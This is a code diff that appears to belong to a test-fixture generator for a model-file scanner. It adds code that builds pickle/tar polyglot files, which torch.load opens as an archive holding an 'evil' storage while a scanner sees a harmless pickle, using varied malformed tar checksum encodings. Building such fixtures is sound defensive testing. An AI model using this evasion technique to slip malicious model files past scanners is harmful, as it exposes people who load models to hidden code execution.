@@ -631,6 +631,30 @@ def patched(data, changes):
         data[position:position + len(new)] = new
     return bytes(data)
 
+def tar_polyglot(lead, rest, checksum):
+    """A file that starts with a pickle, whose text reaches to the end of the tar archive that torch.load tries first."""
+    members = b""
+    for name, data in [(b"storages", evil), (b"tensors", b"x"), (b"pickle", b"x")]:
+        info = tarfile.TarInfo(name.decode())
+        info.size = len(data)
+        members += info.tobuf(tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512)
+    start = lead + b"\x80\x02T"
+    start += struct.pack("<I", 512 - len(start) - 4 + len(members) + 1024)
+    head = bytearray(start.ljust(100, b"\0") + b"0000644\0" + b"0000000\0" * 2 + b"%011o\0" % 0 * 2 + b" " * 8 + b"0").ljust(512, b"\0")
+    head[148:156] = checksum(sum(head))
+    return bytes(head) + members + bytes(1024) + b"." + rest
+
+
+TARS = {
+    "base-256": lambda n: b"\x80" + n.to_bytes(7, "big"), "prefix": lambda n: b"0o%o\0" % n, "sign": lambda n: b"+%o" % n,
+    "underscore": lambda n: b"%o_%02o" % (n >> 6, n & 63), "tabs": lambda n: b"\t%o\r" % n,
+}
+for name, checksum in TARS.items():
+    checksum = lambda n, make=checksum: make(n).ljust(8, b"\0")
+    put("torch/tar-pickle-%s.pkl" % name, tar_polyglot(b"", b"", checksum), "torch", "a plain pickle, and a tar archive to torch.load")
+    put("torch/tar-legacy-%s.pt" % name, tar_polyglot(MAGIC, fine + pickle.dumps([], 2), checksum), "torch", "a legacy file, and a tar archive to torch.load")
+
+
 
 base = torch_evil
 central = base.index(b"PK\x01\x02")
